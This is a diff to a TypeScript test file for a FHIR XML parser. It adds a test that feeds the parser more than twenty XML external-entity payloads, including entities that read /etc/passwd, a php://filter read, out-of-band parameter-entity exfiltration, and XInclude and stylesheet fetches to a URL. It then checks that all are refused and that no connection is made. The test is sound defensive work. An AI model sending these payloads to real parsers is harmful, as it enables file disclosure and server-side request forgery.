@@ -1,5 +1,6 @@
 // FHIR XML in and out: the same content as JSON, and nothing that XML allows and FHIR does not.
 import { existsSync, readdirSync, readFileSync } from 'node:fs';
+import { type AddressInfo, createServer } from 'node:net';
 import { join } from 'node:path';
 import { gunzipSync } from 'node:zlib';
 import t from 'tap';
@@ -283,7 +284,56 @@ t.test('comments stand anywhere and say nothing', async (t) => {
   t.equal(jsonText(xml), '{"resourceType":"Patient","active":true,"name":[{"family":"x"}]}');
 });
 
-t.test('laughs, depths and floods end soon', async (t) => {
+t.test('threat 16: no document type, entity or instruction is read, and no socket opened', async (t) => {
+  let connections = 0;
+  const listener = createServer((socket) => {
+    connections++;
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
+  t.teardown(() => listener.close());
+  const outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/x`;
+  const entity = '<language value="&x;"/>';
+  const payloads = [
+    `<!DOCTYPE p [<!ENTITY x "y">]>${patient(entity)}`,
+    `<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>${patient(entity)}`,
+    `<!DOCTYPE p [<!ENTITY x SYSTEM "${outside}">]>${patient(entity)}`,
+    `<!DOCTYPE p [<!ENTITY x PUBLIC "-//x" "${outside}">]>${patient(entity)}`,
+    `<!DOCTYPE p SYSTEM "${outside}">${patient('')}`,
+    `<!DOCTYPE p PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "${outside}">${patient('')}`,
+    `<!DOCTYPE p [<!ENTITY % x SYSTEM "${outside}"> %x;]>${patient('')}`,
+    `<!DOCTYPE p [<!ENTITY % a "<!ENTITY &#37; b SYSTEM '${outside}?%c;'>"> %a;]>${patient('')}`,
+    `<!DOCTYPE p [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>${patient(entity)}`,
+    `<!DOCTYPE p [<!ENTITY x SYSTEM "jar:${outside}!/x">]>${patient(entity)}`,
+    `<!DOCTYPE p [<!ATTLIST Patient id CDATA "x">]>${patient('')}`,
+    `<!DOCTYPE p [<!ELEMENT Patient ANY><!NOTATION n SYSTEM "${outside}">]>${patient('')}`,
+    `<!DOCTYPE p [<!ENTITY x "&x;">]>${patient(entity)}`,
+    `<!doctype p>${patient('')}`,
+    `\ufeff<?xml version="1.0"?>\n<!-- x --><!DOCTYPE p [<!ENTITY x "y">]>${patient(entity)}`,
+    patient('<!DOCTYPE p [<!ENTITY x "y">]><language value="de"/>'),
+    patient(entity),
+    patient(`<text><status value="generated"/><div xmlns="${xhtml}">&x;</div></text>`),
+    `<?xml-stylesheet type="text/xsl" href="${outside}"?>${patient('')}`,
+    patient(`<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${outside}" parse="text"/>`),
+    patient(
+      '',
+      ` xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://hl7.org/fhir ${outside}"`,
+    ),
+    `<?xml version="1.0" encoding="UTF-16"?>${patient('')}`,
+  ];
+  t.ok(payloads.length >= 20);
+  const taken = payloads.filter((xml) => refusal(xml) === '');
+  // Where XSD says that a schema may be found is not content, and nobody goes there.
+  t.same(
+    taken.filter((xml) => !xml.includes('schemaLocation')),
+    [],
+  );
+  for (const xml of payloads) t.notMatch(refusal(xml), /root:|127\.0\.0\.1/);
+  await new Promise((resolve) => setImmediate(resolve));
+  t.equal(connections, 0);
+});
+
+t.test('threats 16, 19, 20: laughs, depths and floods end soon', async (t) => {
   const laughs = Array.from({ length: 20 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('');
   const within = (xml: string, says: RegExp) => {
     const before = performance.now();
